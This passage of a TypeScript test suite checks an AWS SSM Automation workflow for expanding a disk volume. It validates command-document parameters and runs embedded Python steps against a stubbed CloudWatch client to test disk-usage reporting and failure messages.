      parseWaitInput(JSON.parse(payload), {
        pollIntervalSeconds: 5,
        maxPollIntervalSeconds: 30,
        maxWaitSeconds: 300,
      }),
    ).toEqual({
      ok: true,
      request: { volumeId: VOLUME, targetSizeGiB: 20, maxWaitSeconds: 600 },
    });
  });

  it('reads only fields the Lambda results always carry (every selector resolves)', () => {
    expect(() => lambdaOutputs('ExpandVolume', expandResult)).not.toThrow();
    expect(() => lambdaOutputs('WaitForOptimizing', waitResult)).not.toThrow();
    expect(() => lambdaOutputs('WaitForOptimizingAgain', waitResult)).not.toThrow();
  });

  const commandDocs = [
    ['DiskReportBefore', 'disk-report.command.yml'],
    ['GrowFilesystem', 'expand-volume.command.yml'],
    ['DiskReportAfter', 'disk-report.command.yml'],
  ] as const;

  it.each(commandDocs)(
    '%s passes only parameters %s declares, with values its patterns accept',
    (step, file) => {
      const path = join(REPO_ROOT, 'ssm-documents', file);
      if (!existsSync(path)) return; // the Command document is another issue's; checked once it exists
      const declared = (parseYaml(readFileSync(path, 'utf8')) as { parameters: Record<string, Parameter> })
        .parameters;
      const sent = (run({}).inputs[step] as { Parameters: Record<string, string> }).Parameters;
      for (const [name, value] of Object.entries(sent)) {
        const p = declared[name];
        expect(p, `${file} has no parameter ${name}`).toBeDefined();
        if (p?.allowedPattern !== undefined)
          expect(new RegExp(p.allowedPattern).test(value), `${name}=${value}`).toBe(true);
        if (p?.allowedValues !== undefined) expect(p.allowedValues).toContain(value);
      }
    },
  );

  it('only ever passes a MountPoint that GrowFilesystem’s own pattern accepts too', () => {
    const path = join(REPO_ROOT, 'ssm-documents', 'expand-volume.command.yml');
    if (!existsSync(path)) return;
    const theirs = new RegExp(
      (parseYaml(readFileSync(path, 'utf8')) as { parameters: Record<string, Parameter> }).parameters
        .MountPoint?.allowedPattern ?? '^$',
    );
    for (const v of parameter('MountPoint').allowedValues ?? [])
      expect(theirs.test(String(v)), String(v)).toBe(true);
  });
});

// ---------------------------------------------------------------------------------------------
// The embedded Python

const hasPython = spawnSync('python3', ['--version']).status === 0;

describe.skipIf(!hasPython)('embedded Python (python3 with a stub boto3)', () => {
  function script(step: string): StepScript {
    const inputs = stepInputs(step) as { Handler: string; Script: string };
    return { handler: inputs.Handler, script: inputs.Script };
  }

  /** Runs the step's handler; the stub CloudWatch GetMetricData answers `answer`. */
  function callScript(step: string, events: Record<string, string>, answer: unknown = {}) {
    return runPythonHandler(script(step), events, { get_metric_data: [answer] });
  }

  /** The step's InputPayload as Automation resolves it for these parameters. */
  function payloadOf(step: string, parameters: Record<string, string>): Record<string, string> {
    const payload = stepInputs(step).InputPayload as Record<string, string>;
    return Object.fromEntries(
      Object.entries(payload).map(([k, v]) => [
        k,
        v.replace(/\{\{ (\w+) \}\}/g, (_, name: string) => {
          const value = parameters[name];
          if (value === undefined) throw new Error(`${step} InputPayload.${k} reads {{ ${name} }}`);
          return value;
        }),
      ]),
    );
  }

  const events = payloadOf('ReadDiskUsage', { InstanceId: INSTANCE, MountPoint: '/data' });

  it("ReadDiskUsage returns used = total − available from the latest datapoints of the node's agent", () => {
    const response = {
      MetricDataResults: [
        { Id: 'free', Values: [524288000.0, 600000000.0] },
        { Id: 'total', Values: [10725883904.0] },
      ],
    };
    expect(callScript('ReadDiskUsage', events, response).result).toEqual({
      usedBytes: '10201595904',
      filesystemBytes: '10725883904',
      note: '',
    });
  });

  it("ReadDiskUsage queries disk_free and disk_total for the instance and mount point in the node's own namespace", () => {
    const { calls } = callScript('ReadDiskUsage', events, { MetricDataResults: [] });
    expect(calls.map((c) => [c.service, c.op])).toEqual([['cloudwatch', 'get_metric_data']]);
    const call = calls[0]?.args as {
      MetricDataQueries: {
        MetricStat: { Metric: { Namespace: string; MetricName: string; Dimensions: unknown[] } };
      }[];
      ScanBy: string;
    };
    expect(call.ScanBy).toBe('TimestampDescending');
    expect(call.MetricDataQueries.map((q) => q.MetricStat.Metric.MetricName)).toEqual([
      'disk_free',
      'disk_total',
    ]);
    for (const q of call.MetricDataQueries) {
      // The namespace the node's agent publishes to and its alarms read (lib/disk-metrics-agent.ts).
      expect(q.MetricStat.Metric.Namespace).toBe(agentNamespace('StemeDB', INSTANCE));
      expect(q.MetricStat.Metric.Dimensions).toEqual([
        { Name: 'InstanceId', Value: INSTANCE },
        { Name: 'path', Value: '/data' },
      ]);
    }
  });

  it('ReadDiskUsage returns empty values, not an error, when there are no datapoints', () => {
    const r = callScript('ReadDiskUsage', events, { MetricDataResults: [{ Id: 'free', Values: [] }] });
    expect(r.result).toMatchObject({ usedBytes: '', filesystemBytes: '' });
  });

  it('ReadDiskUsage returns empty values, not an error, when no datapoint has arrived yet', () => {
    const r = callScript('ReadDiskUsage', events, {
      MetricDataResults: [
        { Id: 'free', StatusCode: 'Complete', Values: [] },
        { Id: 'total', StatusCode: 'Complete', Values: [] },
      ],
    });
    expect(r.result).toEqual({
      usedBytes: '',
      filesystemBytes: '',
      note: 'no recent disk_free and disk_total datapoints',
    });
  });

  // An error is not "no metrics": '' would turn off expand-volume's "growth not yet used" guard,
  // and a rerun after a failed GrowFilesystem would grow the volume again. The step fails, and its
  // onFailure (NotifyFailure, see "notifies and ends Failed when ReadDiskUsage fails") notifies.
  it.each(['AccessDenied', 'AccessDeniedException', 'Throttling'])(
    'ReadDiskUsage fails the step, naming the error, when CloudWatch answers %s',
    (code) => {
      // The stub raises what botocore raises for an API error: a ClientError.
      expect(() => callScript('ReadDiskUsage', events, { error: code })).toThrow(
        `Exception: cannot read the disk metrics of ${INSTANCE} /data: CloudWatch GetMetricData failed: ${code}; without them expand-volume cannot tell whether the last growth is used yet, so nothing is expanded`,
      );
    },
  );

  it.each(['Forbidden', 'InternalError'])(
    'ReadDiskUsage fails the step when a query comes back %s',
    (status) => {
      const answer = {
        MetricDataResults: [
          { Id: 'free', StatusCode: status, Values: [] },
          { Id: 'total', StatusCode: 'Complete', Values: [10725883904.0] },
        ],
      };
      expect(() => callScript('ReadDiskUsage', events, answer)).toThrow(`CloudWatch answered free ${status}`);
    },
  );

  it('ReadDiskUsage uses the latest datapoints of a PartialData answer', () => {
    const answer = {
      MetricDataResults: [
        { Id: 'free', StatusCode: 'PartialData', Values: [524288000.0] },
        { Id: 'total', StatusCode: 'PartialData', Values: [10725883904.0] },
      ],
    };
    expect(callScript('ReadDiskUsage', events, answer).result).toMatchObject({ usedBytes: '10201595904' });
  });

  it('FailRefused raises with the status, the reason and when to retry', () => {
    expect(() =>
      callScript('FailRefused', {
        status: 'deferred',
        reason: 'rate exceeded',
        retryAfter: '2024-05-01T18:00:00Z',
      }),
    ).toThrow('Exception: volume not expanded: deferred: rate exceeded (retry after 2024-05-01T18:00:00Z)');
  });

  it('FailExecution raises naming the execution', () => {
    expect(() => callScript('FailExecution', { execution: 'abc-123' })).toThrow(
      'Exception: ExpandVolume failed; see the first failed step of execution abc-123',
    );
  });
});
